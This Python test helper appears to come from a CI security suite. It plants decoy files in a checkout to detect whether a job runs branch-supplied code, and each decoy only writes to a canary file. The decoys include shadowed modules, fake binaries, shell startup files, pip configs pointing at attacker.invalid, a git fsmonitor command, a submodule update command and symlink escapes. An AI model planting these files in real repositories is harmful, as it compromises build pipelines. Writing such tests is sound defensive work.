"""What a branch may bring along in the hope that a job runs it: each of these leaves its name in a file if it does."""

from __future__ import annotations

from pathlib import Path

MODULES = (
    "json", "re", "os", "sys", "site", "sitecustomize", "usercustomize", "encodings/__init__", "codecs", "zipfile",
    "subprocess", "argparse", "logging/__init__", "pip/__init__", "pip/__main__", "venv/__init__", "venv/__main__",
    "ensurepip/__init__", "ensurepip/__main__", "reconciler/__init__", "reconciler/__main__", "reconciler/cli/main",
    "eversince_reconciler", "click", "httpx", "msgspec", "pydantic", "ruamel/yaml/__init__", "obstore", "rich/__init__",
    "hatchling/build", "setup", "conftest", "noxfile", "backend",
)  # fmt: skip
COMMANDS = ("python3", "python", "pip", "git", "gh", "bash", "sh", "sed", "awk", "grep", "mkdir", "reconciler", "jq")
STARTUP = (
    ".bashrc", ".bash_profile", ".profile", ".bash_env", ".env", ".envrc", ".zshenv", ".github/hook.sh", "Makefile",
    ".git-hooks/post-checkout", ".husky/post-checkout", ".githooks/post-checkout",
)  # fmt: skip
PACKAGES = ("pip", "reconciler")
"""Folders of modules at the top."""
FOLDERS = ("", "bin/", ".venv/bin/", "venv/bin/", "node_modules/.bin/")


def plant(folder: Path, canary: Path, outside: Path) -> list[str]:
    """Fills a checkout; what runs appends to ``canary``. Links lead to ``outside``, a folder with a file of its own."""
    shell = f'#!/bin/sh\necho "$0" >> "{canary}"\n'
    files = {
        f"{name}.py": f"open({str(canary)!r}, 'a').write(__file__ + '\\n')\nraise SystemExit(99)\n" for name in MODULES
    }
    files |= {f"{place}{name}": shell for place in FOLDERS for name in COMMANDS if f"{place}{name}" not in PACKAGES}
    files |= dict.fromkeys(STARTUP, shell)
    files |= {
        "evil.pth": f"import os; open({str(canary)!r}, 'a').write('pth')\n",
        "pyproject.toml": '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n',
        "setup.cfg": "[global]\nindex-url = https://attacker.invalid/simple\n",
        "pip.conf": "[global]\nindex-url = https://attacker.invalid/simple\nrequire-virtualenv = true\n",
        ".pip/pip.conf": "[global]\nindex-url = https://attacker.invalid/simple\nrequire-virtualenv = true\n",
        ".config/pip/pip.conf": "[global]\nindex-url = https://attacker.invalid/simple\n",
        "pydistutils.cfg": "[install]\nprefix = /attacker\n",
        "requirements.lock": "attacker==1.0\n",
        "runtime.lock": "attacker==1.0\n",
        "reconciler/runtime.lock": "attacker==1.0\n",
        ".netrc": "default login attacker password attacker\n",
        ".gitconfig": f'[core]\n\tfsmonitor = "echo fsmonitor >> {canary}"\n\thooksPath = .githooks\n',
        ".gitattributes": "*.yaml filter=evil diff=evil\n",
        ".gitmodules": '[submodule "x"]\n\tpath = x\n\turl = https://attacker.invalid/x.git\n\tupdate = !echo x\n',
        ".python-version": "2.7\n",
        ".tool-versions": "python 2.7\n",
    }
    for name, text in files.items():
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
        path.chmod(0o755)
    links = ("plan", "drift", "drift.md", "events.jsonl", "fleet", "tools", "reconciler-plan", "reconciler-events")
    for name in links:
        (folder / name).symlink_to(outside if "." not in name else outside / "precious")
    return [*files, *links]
